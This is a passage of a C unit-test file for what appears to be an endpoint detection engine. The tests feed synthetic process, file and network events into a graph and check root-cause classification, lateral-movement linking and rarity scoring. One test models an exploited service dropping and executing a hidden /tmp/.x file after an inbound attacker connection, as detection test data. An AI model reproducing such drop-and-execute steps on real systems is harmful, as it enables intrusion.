        bld_t x;
        bld_init(&x, "deep");
        for (int i = 0; i < 150; i++, pid++)
            ev_start(&x, pid + 1, pid, "/bin/sh", "sh -c next");
        assert_int_equal(edr_graph_add_batch(g, &x.b), 0);
        edr_arena_close(&x.a);
    }
    bld_t x;
    bld_init(&x, "deep");
    uint32_t start = node_of(&x, g, pid);
    assert_int_not_equal(start, EDR_GRAPH_NONE);
    edr_rca_t *r = edr_rca_run(g, start, 0, NULL, NULL);
    assert_non_null(r);
    assert_true(r->truncated);
    int has_start = 0, has_root = 0;
    for (size_t i = 0; i < r->n_chain; i++) {
        has_start |= r->chain[i].node == start;
        has_root |= r->chain[i].node == r->root;
    }
    assert_true(has_root);
    if (!has_start)
        fail_msg("the chain of %zu items lost the process analysed", r->n_chain);
    edr_rca_destroy(r);
    edr_graph_destroy(g);
    edr_arena_close(&x.a);
}

/* A service started days ago, exploited through a connection it accepted:
 * it writes a file that its child runs. The entry is looked for around the
 * write, not around the service's own start (no connection there: the
 * class was "unknown"). */
static void test_service_drops_file(void **state)
{
    (void)state;
    bld_t x;
    bld_init(&x, "app-1");
    ev_start(&x, 1, 0, "/usr/lib/systemd/systemd", "/sbin/init");
    ev_start(&x, 300, 1, "/usr/bin/java", "java -jar app.jar");
    x.t += 3ull * 86400 * 1000000000ull; /* three days later */
    ev_net(&x, 300, 1, attacker, 8080);
    x.t += 2000000000ull;
    ev_write(&x, 300, "/tmp/.x");
    x.t += 3000000000ull;
    ev_start(&x, 301, 300, "/tmp/.x", "/tmp/.x");
    edr_graph_t *g = edr_graph_new();
    assert_int_equal(edr_graph_add_batch(g, &x.b), 0);
    edr_rca_t *r = edr_rca_run(g, node_of(&x, g, 301), 0, NULL, NULL);
    assert_non_null(r);
    if (r->cls != EDR_RCA_INBOUND_CONNECTION)
        fail_msg("class %d: %s", (int)r->cls, r->reason);
    assert_int_equal(r->root, node_of(&x, g, 300));
    edr_graph_node_info_t in;
    assert_int_not_equal(r->entry, EDR_GRAPH_NONE);
    edr_graph_node(g, r->entry, &in);
    assert_int_equal(in.kind, EDR_NODE_REMOTE);
    assert_memory_equal(in.ip, attacker, 4);
    edr_rca_destroy(r);
    edr_graph_destroy(g);
    edr_arena_close(&x.a);
}

/* One side of the TCP flow 10.0.0.1:40000 -> 10.0.0.2:22: the connect on
 * the client host, the accept on the server host. */
static void ev_flow(bld_t *x, uint32_t pid, int accept)
{
    static const uint8_t cip[4] = {10, 0, 0, 1}, sip[4] = {10, 0, 0, 2};
    Edr__V1__Event *e = ev_new(x, pid, 0);
    Edr__V1__Network *nw = edr_arena_alloc(&x->a, sizeof(*nw));
    Edr__V1__Endpoint *l = edr_arena_alloc(&x->a, sizeof(*l)), *r = edr_arena_alloc(&x->a, sizeof(*r));
    edr__v1__network__init(nw);
    edr__v1__endpoint__init(l);
    edr__v1__endpoint__init(r);
    nw->action = accept ? EDR__V1__NETWORK__ACTION__ACCEPT : EDR__V1__NETWORK__ACTION__CONNECT;
    nw->protocol = EDR__V1__NETWORK__PROTOCOL__TCP;
    l->ip.data = (uint8_t *)(accept ? sip : cip);
    l->ip.len = 4;
    l->port = accept ? 22 : 40000;
    r->ip.data = (uint8_t *)(accept ? cip : sip);
    r->ip.len = 4;
    r->port = accept ? 40000 : 22;
    nw->local = l;
    nw->remote = r;
    e->body_case = EDR__V1__EVENT__BODY_NETWORK;
    e->network = nw;
}

static size_t lateral_edges(const edr_graph_t *g)
{
    size_t n = 0;
    for (uint32_t e = 0; e < edr_graph_edge_count(g); e++) {
        edr_graph_edge_info_t in;
        edr_graph_edge(g, e, &in);
        n += in.kind == EDR_EDGE_LATERAL;
    }
    return n;
}

/* The two sides of a connection are linked only when close in time: a
 * connect whose accept was never seen does not link to an accept of the
 * same four-tuple hours later, and a four-tuple reused later links anew. */
static void test_flow_link_needs_time(void **state)
{
    (void)state;
    edr_graph_t *g = edr_graph_new();
    bld_t a, b;
    bld_init(&a, "ha");
    ev_start(&a, 50, 1, "/usr/bin/ssh", "ssh backup@10.0.0.2");
    ev_flow(&a, 50, 0); /* 09:00, its accept never recorded */
    assert_int_equal(edr_graph_add_batch(g, &a.b), 0);
    bld_init(&b, "hb");
    b.t += 5ull * 3600 * 1000000000ull;
    b.b.base_time_ns = b.t;
    ev_start(&b, 60, 1, "/usr/sbin/sshd", "sshd: root");
    ev_flow(&b, 60, 1); /* 14:00: another connection on the same four-tuple */
    assert_int_equal(edr_graph_add_batch(g, &b.b), 0);
    assert_int_equal(lateral_edges(g), 0);
    edr_arena_close(&a.a);
    bld_init(&a, "ha");
    a.t += 5ull * 3600 * 1000000000ull + 500000000ull;
    a.b.base_time_ns = a.t;
    ev_start(&a, 70, 1, "/usr/bin/ssh", "ssh root@10.0.0.2");
    ev_flow(&a, 70, 0); /* 14:00 too: this is the accept's peer */
    assert_int_equal(edr_graph_add_batch(g, &a.b), 0);
    assert_int_equal(lateral_edges(g), 1);
    edr_graph_destroy(g);
    edr_arena_close(&a.a);
    edr_arena_close(&b.a);
}

/* The rarity of an edge does not depend on whether its process's image came
 * before or after the edge: a write seen before the writer's start (fork and
 * exec in another batch, or a record loaded after the events) counts under
 * the image it is looked up with. */
static void test_rarity_independent_of_order(void **state)
{
    (void)state;
    for (int late = 0; late < 2; late++) {
        edr_graph_t *g = edr_graph_new();
        assert_non_null(g);
        bld_t x;
        bld_init(&x, "wr");
        if (!late)
            ev_start(&x, 300, 1, "/usr/bin/writer", "writer");
        ev_write(&x, 300, "/srv/out/a");
        assert_int_equal(edr_graph_add_batch(g, &x.b), 0);
        uint32_t first = (uint32_t)edr_graph_edge_count(g) - 1;
        edr_arena_reset(&x.a);
        x.b.n_events = 0;
        if (late)
            ev_start(&x, 300, 1, "/usr/bin/writer", "writer");
        ev_start(&x, 301, 1, "/usr/bin/writer", "writer");
        ev_write(&x, 301, "/srv/out/b");
        assert_int_equal(edr_graph_add_batch(g, &x.b), 0);
        uint32_t second = (uint32_t)edr_graph_edge_count(g) - 1;
        edr_graph_edge_info_t ei;
        assert_int_equal(edr_graph_edge(g, first, &ei), 0);
        assert_int_equal(ei.kind, EDR_EDGE_WRITE);
        assert_int_equal(edr_graph_edge_rarity(g, first), 2);
        assert_int_equal(edr_graph_edge_rarity(g, second), 2);
        edr_graph_destroy(g);
        edr_arena_close(&x.a);
    }
}

static void test_bad_events(void **state)
{
    (void)state;
    bld_t x;
    bld_init(&x, "odd");
    Edr__V1__Event *e = ev_new(&x, 5, 0);
    e->entity_id.len = 3; /* broken id */
    e = ev_new(&x, 6, 0);
    e->body_case = EDR__V1__EVENT__BODY_FILE_WRITE; /* body pointer missing */
    e->file_write = NULL;
    e = ev_new(&x, 7, 0);
    e->body_case = EDR__V1__EVENT__BODY_NETWORK;
    e->network = NULL;
    ev_start(&x, 8, 8, "", ""); /* its own parent, empty image */
    edr_graph_t *g = edr_graph_new();
    assert_int_equal(edr_graph_add_batch(g, &x.b), 0);
    Edr__V1__EventBatch nohost = x.b;
    nohost.sensor = NULL;
    assert_int_equal(edr_graph_add_batch(g, &nohost), EDR_EINVAL);
    edr_rca_t *r = edr_rca_run(g, node_of(&x, g, 8), 0, NULL, NULL);
    assert_non_null(r);
    assert_int_equal(r->cls, EDR_RCA_UNKNOWN);
    edr_rca_destroy(r);
    edr_graph_destroy(g);
    edr_arena_close(&x.a);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_build_and_find),
        cmocka_unit_test(test_unseen_parent_keeps_pid),
        cmocka_unit_test(test_compact_layout),
        cmocka_unit_test(test_service_exploit),
        cmocka_unit_test(test_download_execute_and_time_order),
        cmocka_unit_test(test_synth_attacks),
        cmocka_unit_test(test_synth_unchanged),
        cmocka_unit_test(test_exports_escape),
        cmocka_unit_test(test_svg_entities_and_size),
        cmocka_unit_test(test_bad_events),
        cmocka_unit_test(test_forged_id_of_another_kind),
        cmocka_unit_test(test_long_ancestry_keeps_start),
        cmocka_unit_test(test_service_drops_file),
        cmocka_unit_test(test_flow_link_needs_time),
        cmocka_unit_test(test_rarity_independent_of_order),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
